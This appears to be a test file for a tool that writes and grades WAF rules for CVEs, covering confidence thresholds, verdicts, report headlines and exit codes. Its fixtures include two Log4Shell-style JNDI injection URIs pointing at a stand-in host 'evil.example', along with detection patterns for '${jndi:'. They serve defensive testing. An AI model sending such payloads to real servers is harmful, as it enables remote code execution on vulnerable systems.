// What a generation report may claim: the verdict (proven only with an exploit request tested and
// blocked), the headline built from the figures, confidence from what was proven, the no-rule
// outcome, and the exit code a run over several CVEs comes to.
import { describe, expect, it } from 'vitest';

import { exitOf, EXIT } from '../../src/cli/io.js';
import { checkRule } from '../../src/generation/checks.js';
import {
  confidenceOf,
  HIGH_CONFIDENCE,
  MEDIUM_CONFIDENCE,
  type ProvenFigures,
} from '../../src/generation/confidence.js';
import { buildRule, runGeneration } from '../../src/generation/loop.js';
import { NoRuleError } from '../../src/generation/no-rule.js';
import type { Engine, GenerationInput, Proposal } from '../../src/generation/types.js';
import {
  notTestedAgainst,
  storedConfidence,
  storedSummary,
  storedVerdict,
  summaryOf,
  verdictOf,
} from '../../src/generation/verdict.js';
import { buildRequest, type HttpRequest, type RequestInit } from '../../src/requests/model.js';
import type { Statement } from '../../src/waf/model/shapes.generated.js';
import { ExploitFactsSchema, VulnRecordSchema } from '../../src/vulns/model.js';

const CVE = 'CVE-2099-4242';
const req = (id: string, init: Partial<RequestInit> & { uri: string }): HttpRequest =>
  buildRequest({ id, method: 'GET', headers: [['Host', 'shop.example']], expect: 'block', ...init });

const exploits = [
  req('e1', { uri: '/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D' }),
  req('e2', { uri: '/login?user=${jndi:rmi://evil.example/b}' }),
];
/** Ordinary traffic, many requests (the figures are counted, so the number is ours to choose). */
const benign = (n: number): HttpRequest[] =>
  Array.from({ length: n }, (_, i) =>
    req(`b${i}`, { uri: `/products/${i}?page=${i % 7}&sort=price`, expect: 'allow' }),
  );

const DECODE = [
  { Priority: 0, Type: 'URL_DECODE_UNI' },
  { Priority: 1, Type: 'URL_DECODE_UNI' },
  { Priority: 2, Type: 'LOWERCASE' },
] as const;
/** `${jndi:` in the query or the body (a variant may move the payload there). */
const JNDI: Statement = {
  OrStatement: {
    Statements: [
      {
        ByteMatchStatement: {
          SearchString: '${jndi:',
          FieldToMatch: { QueryString: {} },
          PositionalConstraint: 'CONTAINS',
          TextTransformations: [...DECODE],
        },
      },
      {
        ByteMatchStatement: {
          SearchString: '${jndi:',
          FieldToMatch: { Body: { OversizeHandling: 'MATCH' } },
          PositionalConstraint: 'CONTAINS',
          TextTransformations: [...DECODE],
        },
      },
    ],
  },
};
/** The same, plus a branch that can never match: `unmatchable-case`, an error-level lint finding. */
const WITH_LINT_ERROR: Statement = {
  OrStatement: {
    Statements: [
      JNDI,
      {
        ByteMatchStatement: {
          SearchString: 'JNDI:LDAP',
          FieldToMatch: { UriPath: {} },
          PositionalConstraint: 'CONTAINS',
          TextTransformations: [{ Priority: 0, Type: 'LOWERCASE' }],
        },
      },
    ],
  },
};
const INVALID_REGEX: Statement = {
  RegexMatchStatement: {
    RegexString: '(?<=\\$\\{)jndi:',
    FieldToMatch: { QueryString: {} },
    TextTransformations: [{ Priority: 0, Type: 'URL_DECODE' }],
  },
};

/** An engine that proposes the given statements, and counts how often it was asked. */
function stubEngine(statements: Statement[], extra: Partial<Proposal> = {}): Engine & { calls: number } {
  return {
    name: 'stub',
    calls: 0,
    async propose() {
      this.calls++;
      return { candidates: statements.map((statement) => ({ statement, strategy: 'stub' })), ...extra };
    },
  };
}

const input = (over: Partial<GenerationInput> = {}): GenerationInput => ({
  record: VulnRecordSchema.parse({
    id: CVE,
    description: 'JNDI injection',
    source: 'test',
    fetchedAt: new Date(0).toISOString(),
  }),
  exploits,
  facts: ExploitFactsSchema.parse({}),
  benign: benign(50),
  evidenceSources: ['test'],
  ...over,
});

const figures = (over: Partial<ProvenFigures> = {}): ProvenFigures => ({
  passed: true,
  evidence: { total: HIGH_CONFIDENCE.minExploitRequests, blocked: HIGH_CONFIDENCE.minExploitRequests },
  variants: { total: 100, blocked: Math.ceil(100 * HIGH_CONFIDENCE.minVariantRate) },
  benign: { total: HIGH_CONFIDENCE.minBenignRequests, blocked: 0 },
  ...over,
});
const clean = { errors: 0, warnings: 0 };

describe('confidenceOf', () => {
  it('is high exactly at the high thresholds, and each one short of them lowers it', () => {
    expect(confidenceOf(figures(), clean)).toBe('high');
    const one = HIGH_CONFIDENCE.minExploitRequests - 1;
    expect(confidenceOf(figures({ evidence: { total: one, blocked: one } }), clean)).toBe(
      one >= MEDIUM_CONFIDENCE.minExploitRequests ? 'medium' : 'low',
    );
    const variantsJustShort = Math.ceil(100 * HIGH_CONFIDENCE.minVariantRate) - 1;
    expect(confidenceOf(figures({ variants: { total: 100, blocked: variantsJustShort } }), clean)).toBe(
      variantsJustShort / 100 >= MEDIUM_CONFIDENCE.minVariantRate ? 'medium' : 'low',
    );
    const benignShort = HIGH_CONFIDENCE.minBenignRequests - 1;
    expect(confidenceOf(figures({ benign: { total: benignShort, blocked: 0 } }), clean)).toBe(
      benignShort >= MEDIUM_CONFIDENCE.minBenignRequests ? 'medium' : 'low',
    );
    // A warning is enough to keep a rule from high, never from medium.
    expect(confidenceOf(figures(), { errors: 0, warnings: HIGH_CONFIDENCE.maxWarnings + 1 })).toBe('medium');
  });

  it('is medium at the medium thresholds and low just below any of them', () => {
    const medium = figures({
      evidence: {
        total: MEDIUM_CONFIDENCE.minExploitRequests,
        blocked: MEDIUM_CONFIDENCE.minExploitRequests,
      },
      variants: { total: 100, blocked: Math.ceil(100 * MEDIUM_CONFIDENCE.minVariantRate) },
      benign: { total: MEDIUM_CONFIDENCE.minBenignRequests, blocked: 0 },
    });
    expect(confidenceOf(medium, { errors: 0, warnings: 3 })).toBe('medium');
    expect(
      confidenceOf({ ...medium, variants: { total: 100, blocked: medium.variants.blocked - 1 } }, clean),
    ).toBe('low');
    expect(
      confidenceOf(
        { ...medium, benign: { total: MEDIUM_CONFIDENCE.minBenignRequests - 1, blocked: 0 } },
        clean,
      ),
    ).toBe('low');
  });

  it('is always low when untested, failed, missing an exploit, blocking benign traffic or with lint errors', () => {
    expect(confidenceOf(figures({ evidence: { total: 0, blocked: 0 } }), clean)).toBe('low');
    expect(confidenceOf(figures({ passed: false }), clean)).toBe('low');
    expect(confidenceOf(figures(), { errors: 1, warnings: 0 })).toBe('low');
    expect(confidenceOf(figures({ evidence: { total: 5, blocked: 4 } }), clean)).toBe('low');
    expect(confidenceOf(figures({ benign: { total: 10_000, blocked: 1 } }), clean)).toBe('low');
    // No evasion variant tested proves nothing about evasions.
    expect(confidenceOf(figures({ variants: { total: 0, blocked: 0 } }), clean)).toBe('low');
  });
});

describe('the verdict', () => {
  it('a rule that blocks every exploit request tested and no benign one is proven, and its headline says the figures', async () => {
    const many = benign(1_234);
    const { report } = await runGeneration(input({ benign: many }), stubEngine([JNDI]));
    expect(report.tests.evidence).toMatchObject({ total: exploits.length, blocked: exploits.length });
    expect(report.verdict).toBe('proven');
    expect(report.passed).toBe(true);
    const v = report.tests.variants;
    expect(v.total).toBeGreaterThan(0);
    expect(report.summary).toBe(
      `${CVE}: proven — blocks ${exploits.length}/${exploits.length} exploit requests and ${v.blocked}/${v.total} evasion variants; 0 of 1,234 benign requests blocked`,
    );
    expect(report.summary).not.toMatch(/passed/);
    expect(report.reasons).toEqual([]);
    expect(report.notTestedAgainst).toEqual(
      expect.arrayContaining([
        'exploit requests of other payload families than those supplied',
        expect.stringMatching(/^live traffic/),
      ]),
    );
    // 1,234 benign requests is medium ground at best, whatever the engine thinks of itself.
    expect(report.confidence).toBe(
      confidenceOf({ passed: true, ...report.tests }, { errors: 0, warnings: report.warnings.length }),
    );
    expect(report.confidence).not.toBe('high');
  });

  it('with no exploit request the rule is untested, never passed, and the headline says how to supply one', async () => {
    const engine = stubEngine([JNDI], { confidence: 'high' });
    const { report } = await runGeneration(input({ exploits: [] }), engine);
    expect(report.verdict).toBe('untested');
    expect(report.passed).toBe(false);
    expect(report.confidence).toBe('low');
    expect(report.reasonCodes).toEqual(['no-exploit-tested']);
    expect(report.summary).toMatch(new RegExp(`^${CVE}: untested — no exploit request`));
    expect(report.summary).toContain('--evidence <file>');
    expect(report.summary).toContain('0 of 50 benign requests blocked');
    expect(report.summary).not.toMatch(/pass/i);
    expect(report.notTestedAgainst[0]).toBe('any exploit request');
    // Nothing failed, so there is nothing to feed back: one attempt.
    expect(report.attempts).toBe(1);
    expect(engine.calls).toBe(1);
  });

  it('a rule with an error-level lint finding never passes, even when it blocks every exploit and no benign request', async () => {
    const { report } = await runGeneration(input(), stubEngine([WITH_LINT_ERROR]), { maxAttempts: 1 });
    expect(report.tests.evidence.blocked).toBe(exploits.length);
    expect(report.tests.benign.blocked).toBe(0);
    expect(report.verdict).toBe('failed');
    expect(report.passed).toBe(false);
    expect(report.confidence).toBe('low');
    expect(report.reasonCodes).toContain('rule-errors');
    expect(report.summary).toMatch(new RegExp(`^${CVE}: failed — .*unmatchable-case`));
  });

  it('an invalid regex is an error, so a rule carrying one fails', () => {
    const checks = checkRule(buildRule(CVE, INVALID_REGEX), {
      cveId: CVE,
      exploits,
      variants: [],
      benign: benign(5),
      wcuBudget: 500,
      minVariantRate: 0.9,
    });
    expect(checks.errors.map((e) => [e.code, e.severity])).toContainEqual(['invalid-regex', 'error']);
    expect(checks.passed).toBe(false);
    expect(verdictOf(checks)).toBe('failed');
  });

  it('lists the warnings in the headline, by count and code', () => {
    const summary = summaryOf({
      cveId: CVE,
      verdict: 'proven',
      tests: {
        evidence: { total: 3, blocked: 3, missed: [] },
        variants: { total: 36, blocked: 36, missed: [] },
        benign: { total: 3412, blocked: 0, falsePositives: [] },
      },
      reasons: [],
      warnings: [{ code: 'broad-match' }, { code: 'missing-decode' }, { code: 'broad-match' }],
    });
    expect(summary).toBe(
      `${CVE}: proven — blocks 3/3 exploit requests and 36/36 evasion variants; 0 of 3,412 benign requests blocked; 3 warnings: broad-match, missing-decode`,
    );
  });

  it('says what it was not tested against from what was supplied', () => {
    const t = (exploitsTested: number, variants: number, benignTested: number) => ({
      evidence: { total: exploitsTested, blocked: exploitsTested, missed: [] },
      variants: { total: variants, blocked: variants, missed: [] },
      benign: { total: benignTested, blocked: 0, falsePositives: [] },
    });
    expect(notTestedAgainst(t(2, 0, 0), false)).toEqual([
      'exploit requests of other payload families than those supplied',
      'evasion variants (none could be derived from the exploit requests)',
      'any benign traffic',
      expect.stringMatching(/^live traffic/),
    ]);
    // The user's own benign traffic was tested: that is not listed.
    expect(notTestedAgainst(t(2, 10, 100), true).join('\n')).not.toMatch(/own traffic/);
    expect(notTestedAgainst(t(2, 10, 100), false).join('\n')).toMatch(/own traffic/);
  });

  it('reads stored reports written before verdicts: passed without an exploit request is untested', () => {
    const old = {
      cveId: CVE,
      passed: true,
      confidence: 'high',
      tests: {
        evidence: { total: 0, blocked: 0 },
        variants: { total: 0, blocked: 0 },
        benign: { total: 105, blocked: 0 },
      },
      warnings: [],
      reasons: [],
    };
    expect(storedVerdict(old)).toBe('untested');
    // The engine's old guess is not believed: confidence comes from the figures.
    expect(storedConfidence(old)).toBe('low');
    expect(storedSummary(old, CVE)).toMatch(new RegExp(`^${CVE}: untested — `));
    const tested = { ...old, tests: { ...old.tests, evidence: { total: 2, blocked: 2 } } };
    expect(storedVerdict(tested)).toBe('proven');
    expect(storedVerdict({ ...old, passed: false })).toBe('failed');
    expect(storedVerdict({ ...old, verdict: 'failed' })).toBe('failed');
  });
});

describe('no rule', () => {
  it('is a NoRuleError carrying what the engine recognised and what it needs', async () => {
    const engine = stubEngine([], {
      notes: ['attack class info-disclosure (from cwe)'],
      recognised: { attackClass: 'info-disclosure', basis: 'cwe', endpoints: [] },
    });
    const error = await runGeneration(input({ exploits: [] }), engine, { maxAttempts: 2 }).catch((e) => e);
    expect(error).toBeInstanceOf(NoRuleError);
    const { facts } = error as NoRuleError;
    expect(facts).toMatchObject({
      cveId: CVE,
      engine: 'stub',
      attackClass: 'info-disclosure',
      basis: 'cwe',
      endpoints: [],
      exploitRequests: 0,
      notes: ['attack class info-disclosure (from cwe)'],
    });
    expect(facts.needs.join('\n')).toMatch(/an exploit request \(--evidence <file>/);
    expect(facts.needs.join('\n')).toMatch(/vulnerable endpoint/);
    expect((error as Error).message).toMatch(
      /^no rule could be written for CVE-2099-4242: the stub engine recognised attack class info-disclosure \(from cwe\)/,
    );
  });

  it('falls back to the record facts when the engine does not say what it recognised', async () => {
    const facts = ExploitFactsSchema.parse({ attackClass: 'sqli', endpoints: ['/api/search'] });
    const error = (await runGeneration(input({ facts }), stubEngine([])).catch((e) => e)) as NoRuleError;
    expect(error.facts).toMatchObject({
      attackClass: 'sqli',
      basis: 'facts',
      endpoints: ['/api/search'],
      exploitRequests: exploits.length,
    });
    // It had exploit requests and an endpoint: it asks for better exploit requests, not for those.
    expect(error.facts.needs).toHaveLength(1);
    expect(error.facts.needs[0]).toMatch(/^more exploit requests/);
  });
});

describe('exit codes over several CVEs', () => {
  it('the most serious outcome wins: failed, then no rule, then untested, then proven', () => {
    expect(exitOf([])).toBe(EXIT.ok);
    expect(exitOf(['proven', 'proven'])).toBe(EXIT.ok);
    expect(exitOf(['proven', 'untested'])).toBe(EXIT.untested);
    expect(exitOf(['untested', 'no-rule', 'proven'])).toBe(EXIT.noRule);
    expect(exitOf(['no-rule', 'failed', 'untested'])).toBe(EXIT.failed);
    expect(new Set(Object.values(EXIT)).size).toBe(Object.keys(EXIT).length);
  });
});
